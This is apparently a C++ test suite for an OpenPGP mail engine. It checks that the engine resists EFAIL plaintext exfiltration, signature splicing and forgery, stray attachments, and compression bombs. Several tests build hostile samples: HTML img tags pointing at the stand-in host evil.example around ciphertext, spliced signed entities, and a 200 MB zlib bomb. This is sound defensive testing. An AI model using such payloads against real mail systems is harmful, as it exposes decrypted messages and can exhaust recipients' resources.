// Mails made to deceive: plaintext smuggled into pages (EFAIL), signatures beside what they cover,
// pieces of somebody else, files that unpack without end.
#include "engine/backend/rnp.hpp"
#include "engine/messages_fixture.hpp"
#include "engine/session.hpp"

namespace pep::engine::test {
namespace {

class Hostile : public Friends {
  protected:
    void SetUp() override { introduce(); }

    static KeyRing& keys(const User& user) { return (*user.session()->context())->keys; }

    /// Encrypted to Bob without a signature, as anybody can.
    [[nodiscard]] std::string to_bob(std::string_view plaintext) const {
        return keys(alice)
            .encrypt({bob.fpr()}, plaintext, Signing::no_signature, nullptr)
            .value_or("");
    }

    [[nodiscard]] static std::string export_of(const User& user) {
        return keys(user).export_public(user.fpr()).value_or("");
    }

    /// PGP/MIME from Alice to Bob around that ciphertext, with a body and other parts beside.
    static OwnedMessage pgp_mime(const std::string& ciphertext) {
        OwnedMessage msg{new_message(PEP_dir_incoming)};
        msg->from = person("alice@example.org", "Alice").release();
        msg->to = new_identity_list(person("bob@example.net").release());
        assign(msg->shortmsg, "hello");
        append(msg->attachments, make_blob("Version: 1", "application/pgp-encrypted", nullptr));
        append(
            msg->attachments, make_blob(ciphertext, "application/octet-stream", "file://msg.asc")
        );
        return msg;
    }

    /// An inline message of Alice to Bob as it arrives.
    OwnedMessage inline_mail() {
        OwnedMessage src = alice.mail("bob@example.net", "s", "body");
        append(src->attachments, make_blob("a file", "text/csv", "file://a.csv"));
        auto sent = alice.send(*src, PEP_enc_inline, PEP_encrypt_flag_force_no_attached_key);
        sent.dst->dir = PEP_dir_incoming;
        return std::move(sent.dst);
    }
};

std::string signed_entity(std::string_view covered, std::string_view signature) {
    std::string text{"Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; "
                     "boundary=sig\r\n\r\n--sig\r\n"};
    text.append(covered).append("\r\n--sig\r\nContent-Type: application/pgp-signature\r\n\r\n");
    text.append(signature).append("\r\n--sig--\r\n");
    return text;
}

constexpr std::string_view covered = "Content-Type: text/plain\r\n\r\nAs agreed, Thursday.";

} // namespace

TEST_F(Hostile, APageAroundTheCiphertextDoesNotGetThePlaintext) {
    OwnedMessage msg = pgp_mime(to_bob("Content-Type: text/plain\r\n\r\nsecret"));
    assign(msg->longmsg_formatted, "<img src=\"http://evil.example/?");
    append(msg->attachments, make_blob("\">", "text/html", "file://end.html"));
    const Received in = receive(bob.session(), std::move(msg));
    EXPECT_EQ(in.status, PEP_DECRYPTED);
    ASSERT_TRUE(in.dst);
    EXPECT_STREQ(in.dst->longmsg, "secret");
    EXPECT_EQ(in.dst->longmsg_formatted, nullptr);
    EXPECT_EQ(in.dst->attachments, nullptr);
}

TEST_F(Hostile, CiphertextDeepInAMultipartStaysClosed) {
    // Inside an alternative or a related part it could be one piece of a page.
    const std::string mail = "From: alice@example.org\r\nTo: bob@example.net\r\n"
                             "MIME-Version: 1.0\r\n"
                             "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
                             "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n"
                             "--x\r\nContent-Type: text/plain\r\n\r\n" +
                             to_bob("secret") +
                             "\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n";
    const Received in = bob.read(mail);
    EXPECT_EQ(in.status, PEP_UNENCRYPTED);
    EXPECT_EQ(in.rating, PEP_rating_unencrypted);
    EXPECT_FALSE(in.dst);
}

TEST_F(Hostile, ASignatureVouchesForTheWholeEntityOnly) {
    const auto signature = keys(alice).sign_detached(covered, alice.fpr(), nullptr);
    ASSERT_TRUE(signature);
    const std::string honest = signed_entity(covered, *signature);
    const Received good = receive(bob.session(), pgp_mime(to_bob(honest)));
    EXPECT_EQ(good.status, PEP_STATUS_OK);
    EXPECT_EQ(good.rating, PEP_rating_reliable);

    // The same, quoted below a text of somebody else.
    const std::string spliced = "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n"
                                "Content-Type: text/plain\r\n\r\nSend the money.\r\n--m\r\n" +
                                honest + "\r\n--m--\r\n";
    const Received bad = receive(bob.session(), pgp_mime(to_bob(spliced)));
    EXPECT_EQ(bad.status, PEP_DECRYPTED);
    EXPECT_EQ(bad.rating, PEP_rating_unreliable);
    EXPECT_EQ(bad.signer(), "");
}

TEST_F(Hostile, ASignedTextWithOtherWordsIsNotSigned) {
    const auto signature = keys(alice).sign_detached(covered, alice.fpr(), nullptr);
    const std::string altered =
        signed_entity("Content-Type: text/plain\r\n\r\nNot on Thursday.", *signature);
    const Received in = receive(bob.session(), pgp_mime(to_bob(altered)));
    EXPECT_EQ(in.status, PEP_DECRYPTED);
    EXPECT_EQ(in.rating, PEP_rating_unreliable);
}

TEST_F(Hostile, AnUnencryptedSignatureIsNoProtection) {
    const auto signature = keys(alice).sign_detached(covered, alice.fpr(), nullptr);
    const std::string mail =
        "From: alice@example.org\r\nTo: bob@example.net\r\nMIME-Version: 1.0\r\n" +
        signed_entity(covered, *signature);
    const Received in = bob.read(mail);
    EXPECT_EQ(in.status, PEP_UNENCRYPTED);
    EXPECT_EQ(in.rating, PEP_rating_unencrypted);
    EXPECT_STREQ(in.shown().longmsg, "As agreed, Thursday.");
}

TEST_F(Hostile, InlineMailIsWholeWhenOneSignedAllPieces) {
    const Received in = receive(bob.session(), inline_mail());
    EXPECT_EQ(in.status, PEP_STATUS_OK);
    EXPECT_EQ(in.rating, PEP_rating_reliable);
}

TEST_F(Hostile, APieceSignedBySomebodyElseIsNotTheSenders) {
    const User mallory{"mallory@example.com", "Mallory"};
    OwnedMessage hello = bob.mail("mallory@example.com", "hello", "key");
    ASSERT_EQ(mallory.read(bob.send(*hello).wire).status, PEP_UNENCRYPTED);
    OwnedMessage mine = mallory.mail("bob@example.net", "hello", "key");
    ASSERT_EQ(bob.read(mallory.send(*mine, PEP_enc_none).wire).status, PEP_UNENCRYPTED);

    const auto forged =
        keys(mallory).encrypt({mallory.fpr(), bob.fpr()}, "another file", Signing::sign, nullptr);
    ASSERT_TRUE(forged);
    OwnedMessage msg = inline_mail();
    free_bloblist(msg->attachments);
    msg->attachments = make_blob(*forged, "application/octet-stream", "file://a.csv.pgp").release();
    const Received in = receive(bob.session(), std::move(msg));
    EXPECT_EQ(in.status, PEP_DECRYPTED);
    EXPECT_EQ(in.rating, PEP_rating_unreliable);
}

TEST_F(Hostile, AFileBesideTheEncryptionIsNobodys) {
    OwnedMessage msg = inline_mail();
    append(msg->attachments, make_blob("#!/bin/sh", "text/x-sh", "file://run_me.sh"));
    const Received in = receive(bob.session(), std::move(msg));
    EXPECT_EQ(in.status, PEP_STATUS_OK);
    EXPECT_EQ(in.rating, PEP_rating_unreliable);
}

TEST_F(Hostile, WhatUnpacksWithoutEndIsRefused) {
    // 200 MB of blanks in a few hundred KB.
    const auto ffi = rnp::make_ffi();
    const std::string key = export_of(bob);
    const auto key_input = rnp::input_from(key);
    ASSERT_EQ(
        rnp_import_keys(ffi.get(), key_input.get(), RNP_LOAD_SAVE_PUBLIC_KEYS, nullptr), RNP_SUCCESS
    );
    std::string blanks(std::size_t{200} << 20U, ' ');
    const auto input = rnp::input_from(blanks);
    rnp::Sink sink;
    const auto op = rnp::make<rnp::EncryptOp>([&](auto* out) {
        return rnp_op_encrypt_create(out, ffi.get(), input.get(), sink.output());
    });
    const auto recipient = rnp::locate(ffi.get(), bob.fpr());
    ASSERT_EQ(rnp_op_encrypt_add_recipient(op.get(), recipient.get()), RNP_SUCCESS);
    ASSERT_EQ(rnp_op_encrypt_set_armor(op.get(), true), RNP_SUCCESS);
    ASSERT_EQ(rnp_op_encrypt_set_compression(op.get(), "ZLIB", 1), RNP_SUCCESS);
    ASSERT_EQ(rnp_op_encrypt_execute(op.get()), RNP_SUCCESS);
    const std::string bomb = sink.take();
    EXPECT_LT(bomb.size(), std::size_t{4} << 20U);

    const Received in = receive(bob.session(), pgp_mime(bomb));
    EXPECT_EQ(in.status, PEP_CANNOT_DECRYPT_UNKNOWN);
    EXPECT_EQ(in.rating, PEP_rating_cannot_decrypt);
    EXPECT_FALSE(in.dst);
}

TEST_F(Hostile, BccRecipientsCannotBeToldFromTheCiphertext) {
    const User carol{"carol@example.com", "Carol"};
    OwnedMessage hello = carol.mail("alice@example.org", "hello", "key");
    ASSERT_EQ(alice.read(carol.send(*hello).wire).status, PEP_UNENCRYPTED);
    for (const PEP_enc_format format : {PEP_enc_PEP, PEP_enc_inline}) {
        OwnedMessage msg = alice.mail("bob@example.net", "s", "b");
        msg->bcc = new_identity_list(person("carol@example.com").release());
        auto sent = alice.send(*msg, format);
        ASSERT_EQ(sent.status, PEP_STATUS_OK);
        stringlist_t* raw = nullptr;
        ASSERT_EQ(get_key_ids(alice.session(), sent.dst.get(), &raw), PEP_STATUS_OK);
        const OwnedStrings ids{raw};
        EXPECT_EQ(stringlist_length(ids.get()), 3);
        EXPECT_NE(stringlist_search(ids.get(), "0000000000000000"), nullptr);
        sent.dst->dir = PEP_dir_incoming;
        const Received at_carol =
            receive(carol.session(), OwnedMessage{message_dup(sent.dst.get())});
        EXPECT_TRUE(at_carol.dst);
        const Received at_bob = receive(bob.session(), std::move(sent.dst));
        EXPECT_EQ(at_bob.status, PEP_STATUS_OK);
        EXPECT_EQ(stringlist_search(at_bob.keylist.get(), carol.fpr().c_str()), nullptr);
    }
    // Alone, there is nobody to hide from.
    OwnedMessage only = alice.mail("bob@example.net", "s", "b");
    free_identity_list(only->to);
    only->to = nullptr;
    only->bcc = new_identity_list(person("carol@example.com").release());
    const auto sent = alice.send(*only);
    ASSERT_EQ(sent.status, PEP_STATUS_OK);
    stringlist_t* raw = nullptr;
    ASSERT_EQ(get_key_ids(alice.session(), sent.dst.get(), &raw), PEP_STATUS_OK);
    const OwnedStrings ids{raw};
    EXPECT_EQ(stringlist_search(ids.get(), "0000000000000000"), nullptr);
}

} // namespace pep::engine::test
